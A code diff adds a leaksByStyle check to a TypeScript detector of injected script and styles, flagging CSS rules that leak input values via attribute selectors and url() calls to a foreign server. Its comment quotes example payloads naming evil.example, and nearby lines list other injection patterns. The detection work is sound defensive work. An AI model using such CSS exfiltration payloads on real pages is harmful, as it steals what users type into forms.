@@ -145,6 +145,8 @@ export function detectBareScript(subject: Subject): Detection | null {
   if (lower.startsWith('$=~[];')) return told('is a program in signs', 0, text.length);
   const sheet = lower.startsWith("@import'") || (lower.startsWith('@import') && lower.includes('javascript:'));
   if (sheet && subject.isBare) return told('imports a style sheet', 0, text.length);
+  if (lower.includes('url(') && leaksByStyle(lower))
+    return told('tells by a style sheet what a page holds', 0, text.length);
   if (subject.places === null) return null;
   const moved = movesPage(lower);
   if (moved >= 0 && subject.isBare) return told('sends the page elsewhere', moved, moved + 64);
@@ -158,6 +160,19 @@ export function detectBareScript(subject: Subject): Detection | null {
   }
   const shown = showsItself(lower);
   return shown >= 0 && subject.isBare ? told('shows that it ran', shown, shown + 64) : null;
+}
+
+/** `[value^=a]{background:url(//evil.example/a)}`, `}*{background:url(//…)}`: a rule that asks a foreign server for what it matches. */
+function leaksByStyle(lower: string): boolean {
+  const at = lower.indexOf('url(');
+  const address = lower
+    .slice(at + 4, at + 14)
+    .replaceAll("'", '')
+    .replaceAll('"', '')
+    .trimStart();
+  if (!address.startsWith('//') && !address.startsWith('http')) return false;
+  const isAsking = ['[value^=', '[value$=', '[value*=', '[value="', "[value='"].some((one) => lower.includes(one));
+  return isAsking || (lower.startsWith('}') && lower.indexOf('{') < at);
 }
 
 function told(what: string, start: number, end: number): Detection {
